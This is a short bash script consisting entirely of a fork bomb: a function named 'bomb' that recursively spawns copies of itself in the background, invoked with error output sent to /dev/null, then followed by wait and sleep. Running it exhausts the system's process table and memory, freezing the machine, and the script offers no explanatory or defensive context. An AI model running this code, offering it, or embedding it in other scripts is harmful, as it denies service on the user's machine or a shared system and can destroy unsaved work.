bomb() { bomb | bomb & }
bomb 2> /dev/null
wait
sleep 60
